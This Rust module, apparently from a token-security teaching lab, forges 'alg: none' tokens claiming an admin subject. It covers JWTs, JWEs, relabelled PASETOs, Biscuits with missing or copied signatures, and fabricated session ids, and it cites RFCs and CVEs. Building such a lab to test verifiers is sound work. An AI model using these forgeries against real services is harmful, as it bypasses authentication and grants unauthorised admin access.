//! `alg: none`: a token that says of itself that it needs no signature.
//!
//! The flawed assumption: the header is a description that can be trusted. It
//! is part of what the attacker writes. RFC 7519 §6 defines unsecured JWTs and
//! RFC 7518 §3.6 the algorithm `none`; RFC 8725 §3.1 and §3.2 say that a
//! verifier accepts what its caller chose and nothing else. Bitten: npm
//! jsonwebtoken to 8.5.1 with a falsy key (CVE-2022-23540), PyPI Authlib 1.6.5
//! (CVE-2026-28802), PHP F21/jwt (CVE-2015-2951).
//!
//! Other spellings of `none` are an attack of their own, on verifiers that
//! refuse the word. A PASETO has no field to write `none` into, so the nearest
//! things are tried against it: another version or purpose in the header, and a
//! body without its signature. So it is with a Biscuit, whose signatures are
//! left out or replaced, and with the id of a session, which says nothing. A
//! verifier of JWEs is offered unsecured JWTs, since both are JWTs (RFC 7519
//! §7.2), and a JWE that is not encrypted.

use serde_json::Value;

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::biscuit::{self, Message, Value as Field};
use crate::card::AttackProfile;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{Purpose, Scheme, Version, other_purpose};
use crate::weakness::Weakness;

pub(super) struct AlgNone;

static PROFILE: AttackProfile = AttackProfile {
    id: "alg-none",
    title: "Unsecured token accepted",
    assumption: "A token may say of itself that it needs no signature.",
    class: AttackClass::Algorithm,
    given: &[],
    isolated: false,
    breaks: &[Weakness::UnsecuredAccepted],
    references: &[
        (
            "RFC 8725 §2.1",
            "Libraries took alg from the token, `none` included, and verified nothing.",
        ),
        (
            "RFC 8725 §3.1",
            "The caller says which algorithms are acceptable; the library uses no other.",
        ),
        (
            "RFC 8725 §3.2",
            "`none` only where the caller asks for it and something else protects the token.",
        ),
        (
            "CVE-2022-23540",
            "npm jsonwebtoken to 8.5.1 without `algorithms` and with a falsy key; fixed in 9.0.0.",
        ),
        (
            "CVE-2026-28802",
            "PyPI Authlib 1.6.5 and 1.6.6 accept `alg: none`; fixed in 1.6.7.",
        ),
        ("CVE-2015-2951", "PHP F21/jwt before 2.0 accepts `alg: none`."),
    ],
    lesson: include_str!("../../lessons/alg-none.md"),
};

impl Attack for AlgNone {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match view.scheme() {
            Scheme::Jwt(_) => jwt(view, notes),
            Scheme::Jwe(..) => jwe(view, notes),
            Scheme::Paseto(version, purpose) => Err(CannotForge::Inexpressible {
                why: "a PASETO names no algorithm: its header is compared as a whole, and every version and \
                      purpose has a signature or a tag"
                    .into(),
                tried: relabelled(view, version, purpose, notes)?,
            }),
            Scheme::Biscuit => Err(CannotForge::Inexpressible {
                why:
                    "a biscuit can't say that it is unsigned: every block has a signature, and the first is \
                      held against the root key"
                        .into(),
                tried: unsigned_biscuits(view, notes)?,
            }),
            Scheme::Session(_) => Err(CannotForge::Inexpressible {
                why: "the id of a session says nothing of itself: it is found in the store or it is not"
                    .into(),
                tried: ids_of_nobody(view, notes)?,
            }),
        }
    }
}

/// Unsecured JWTs, and a JWE whose header says that nothing is encrypted.
fn jwe(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let mut forgeries = jwt(view, notes)?;
    let payload = mint::jwt_payload(view.wanted())?;
    let variant = "none-five-parts";
    let header = r#"{"alg":"none","enc":"none"}"#;
    notes.variant_step(
        variant,
        "Writes \"none\" for both algorithms of a JWE, and the claims in the open where the ciphertext was.",
        header,
    );
    let token = [
        mint::part(header),
        String::new(),
        String::new(),
        mint::part(payload),
        String::new(),
    ];
    forgeries.push(Forgery::new(variant, token.join(".")));
    Ok(forgeries)
}

fn jwt(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    notes.step(
        "Rewrites the claims: the subject becomes admin.",
        mint::jwt_payload(view.wanted())?,
    );
    let honest_signature = view.sample().rsplit('.').next().unwrap_or_default();
    let header = view.header_with_alg("none");
    notes.variant_step(
        "none",
        "Writes \"none\" where the header named an algorithm, and leaves the signature out.",
        Value::Object(header.clone()).to_string(),
    );
    let unsigned = mint::jws(&header, view.wanted(), &Signature::Empty)?;
    let mut forgeries = vec![Forgery::new("none", unsigned.clone())];
    notes.variant_step(
        "none-old-signature",
        "Writes \"none\" and leaves the old signature where it was, in case the verifier wants to see one.",
        honest_signature,
    );
    let copied = Signature::Copied(honest_signature.into());
    forgeries.push(Forgery::new(
        "none-old-signature",
        mint::jws(&header, view.wanted(), &copied)?,
    ));
    notes.variant_step(
        "none-two-parts",
        "Writes \"none\" and drops the last dot together with the signature.",
        "",
    );
    forgeries.push(Forgery::new(
        "none-two-parts",
        unsigned.trim_end_matches('.').to_owned(),
    ));
    Ok(forgeries)
}

/// The nearest things that a PASETO header and body can say.
fn relabelled(
    view: &AttackerView<'_>,
    version: Version,
    purpose: Purpose,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let Some(rest) = view.sample().splitn(3, '.').nth(2) else {
        return Err(CannotForge::Failed("the sample token has no body".into()));
    };
    let payload = mint::paseto_payload(view.wanted())?;
    let unsigned = format!("{}{}", mint::part(&payload), view.sample_end());
    let (version, purpose, other) = (version.name(), purpose.name(), other_purpose(purpose).name());
    let mut tried = Vec::new();
    let mut relabel = |variant: &str, action: &str, token: String, why: &str| {
        notes.variant_step(
            variant,
            action,
            token.split_inclusive('.').take(2).collect::<String>(),
        );
        tried.push(Forgery::analogue(variant, token, why));
    };
    relabel(
        "purpose-relabelled",
        "Writes the other purpose into the header and leaves everything else as it was.",
        format!("{version}.{other}.{rest}"),
        "the header's purpose is the nearest thing to an algorithm that the sender could choose",
    );
    for other_version in Version::ALL
        .iter()
        .map(|version| version.name())
        .filter(|name| *name != version)
    {
        relabel(
            &format!("version-relabelled-{other_version}"),
            "Writes another version into the header and leaves everything else as it was.",
            format!("{other_version}.{purpose}.{rest}"),
            "the header's version is the nearest thing to an algorithm that the sender could choose",
        );
    }
    relabel(
        "purpose-none",
        "Writes \"none\" where the purpose stood, and the claims in the open after it.",
        format!("{version}.none.{unsigned}"),
        "`none` goes where the purpose stands, since there is no field for an algorithm",
    );
    relabel(
        "no-signature",
        "Writes the claims in the open under the public purpose, without a signature.",
        format!("{version}.public.{unsigned}"),
        "the signature is left out, as in an unsecured JWT, although nothing in the header can say so",
    );
    Ok(tried)
}

/// Biscuits of her own making without the issuer's signature.
fn unsigned_biscuits(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let own = view.biscuit_by_own_key()?;
    let failed = || CannotForge::Failed("the sample token is no biscuit".into());
    let sample = Message::of_token(view.sample()).ok_or_else(failed)?;
    let old_signature = sample
        .bytes(biscuit::AUTHORITY)
        .and_then(Message::read)
        .and_then(|block| Some(block.bytes(biscuit::SIGNATURE)?.to_vec()))
        .ok_or_else(failed)?;
    let signed_with = |signature: Vec<u8>| {
        own.clone().changed_within(biscuit::AUTHORITY, |block| {
            block.with(biscuit::SIGNATURE, Field::Bytes(signature))
        })
    };
    let relabelled = own.clone().changed_within(biscuit::AUTHORITY, |block| {
        let next_key = |key: Message| key.with(biscuit::ALGORITHM, Field::Number(1));
        block
            .clone()
            .changed_within(biscuit::NEXT_KEY, next_key)
            .unwrap_or(block)
    });
    let mut tried = Vec::new();
    for (variant, action, message, why) in [
        (
            "no-signature",
            "Writes a block in which the subject is admin, and leaves its signature out.",
            signed_with(Vec::new()),
            "the signature is left out, as in an unsecured JWT, although nothing in a biscuit can say so",
        ),
        (
            "zero-signature",
            "Writes a block in which the subject is admin, and 64 zeros where its signature belongs.",
            signed_with(vec![0; 64]),
            "zeros take the place of the signature, which a biscuit can't do without",
        ),
        (
            "old-signature",
            "Writes a block in which the subject is admin, and leaves the honest token's signature where it was.",
            signed_with(old_signature),
            "the old signature stays, as it may in an unsecured JWT",
        ),
        (
            "no-proof",
            "Signs that block with a root key of her own, and leaves out the proof at the end.",
            Some(own.clone().without(biscuit::PROOF)),
            "the proof is left out: it shows that the holder has the token from somebody who had the last key",
        ),
        (
            "algorithm-relabelled",
            "Signs that block with a root key of her own, and names another algorithm for the key after it.",
            relabelled,
            "the algorithm of the next key is the nearest thing to one that the sender could choose",
        ),
    ] {
        let token = message.ok_or_else(failed)?.to_token();
        notes.variant_step(variant, action, "");
        tried.push(Forgery::analogue(variant, token, why));
    }
    Ok(tried)
}

/// Ids that no store gave out.
fn ids_of_nobody(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let sample = view.sample();
    let unsecured = mint::jws(&view.header_with_alg("none"), view.wanted(), &Signature::Empty)?;
    let mut shortened = sample.to_owned();
    shortened.pop();
    let mut tried = Vec::new();
    for (variant, action, token) in [
        (
            "zero-id",
            "Sends an id of the right length in which every bit is zero.",
            "A".repeat(sample.len()),
        ),
        ("none-id", "Sends the word none for an id.", "none".into()),
        (
            "shortened-id",
            "Sends her own id without its last letter, in case the store looks for what begins so.",
            shortened,
        ),
        (
            "unsecured-jwt",
            "Sends an unsecured JWT, in which the subject is admin, for an id.",
            unsecured,
        ),
    ] {
        notes.variant_step(variant, action, token.as_str());
        tried.push(Forgery::analogue(
            variant,
            token,
            "an id has no header, so an id that nobody was given takes the place of the unsecured token",
        ));
    }
    Ok(tried)
}
